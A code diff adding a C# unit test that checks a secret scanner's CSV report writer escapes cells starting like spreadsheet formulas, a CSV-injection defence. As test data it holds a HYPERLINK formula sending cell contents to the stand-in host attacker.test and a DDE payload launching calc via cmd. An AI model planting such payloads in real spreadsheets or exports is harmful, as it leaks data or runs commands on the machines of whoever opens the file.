@@ -110,5 +110,39 @@ public sealed class ReportTests : IDisposable
         Assert.All(lines[1..], line => Assert.StartsWith("\"", line, StringComparison.Ordinal));
     }
 
+    public static TheoryData<string> FormulaStarts() => ["=", "+", "-", "@", "\t", "\r"];
+
+    /// <summary>OWASP CSV injection: a cell a spreadsheet would run as a formula starts with ' instead.</summary>
+    [Theory]
+    [MemberData(nameof(FormulaStarts))]
+    public void Write_Csv_CellsStartingLikeAFormula_PrefixedWithQuote(string start)
+    {
+        var hostile = start + "HYPERLINK(\"http://attacker.test/?\"&A1)";
+        var finding = new Finding
+        {
+            RuleId = start + "rule",
+            Kind = "generic",
+            Description = hostile,
+            Secret = start + "secret",
+            Preview = start + "preview",
+            Path = hostile,
+            Author = start + "cmd|' /C calc'!A0",
+            Email = "safe@example.test",
+            Fingerprint = "0123",
+        };
+        var result = new ScanResult { Target = "t", Findings = [finding], Notices = [], Statistics = new ScanStatistics() };
+        using var writer = new StringWriter();
+
+        ReportWriter.Write(ReportFormat.Csv, result, writer, redact: false);
+
+        var fields = writer.ToString().Split("\r\n", 2)[1].TrimEnd('\n', '\r');
+        Assert.Contains($"\"'{start}rule\",", fields, StringComparison.Ordinal);
+        Assert.Contains($"\"'{start}secret\",", fields, StringComparison.Ordinal);
+        Assert.Contains($"\"'{start}cmd|' /C calc'!A0\",", fields, StringComparison.Ordinal);
+        Assert.Contains($"\"'{start}HYPERLINK(\"\"http://attacker.test/?\"\"&A1)\",", fields, StringComparison.Ordinal);
+        Assert.Contains("\"safe@example.test\"", fields, StringComparison.Ordinal);
+        Assert.DoesNotContain($",\"{start}", fields, StringComparison.Ordinal);
+    }
+
     public void Dispose() => _folder.Dispose();
 }
